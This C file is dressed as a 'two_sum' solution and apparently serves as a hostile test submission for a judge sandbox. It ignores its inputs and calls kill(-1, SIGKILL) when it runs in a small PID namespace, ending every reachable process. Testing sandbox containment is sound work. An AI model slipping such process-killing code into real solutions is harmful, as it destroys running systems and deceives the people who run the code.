/* SV|WA signals: ends every process it can, when it is in a namespace with few */
#define _GNU_SOURCE
#include "two_sum.h"

#include <signal.h>
#include <unistd.h>

bool two_sum(const int *nums, size_t n, int target, size_t pair[2])
{
	(void)nums;
	(void)n;
	(void)target;
	(void)pair;
	kill(-1, getpid() < 100 ? SIGKILL : SIGCONT);
	return false;
}
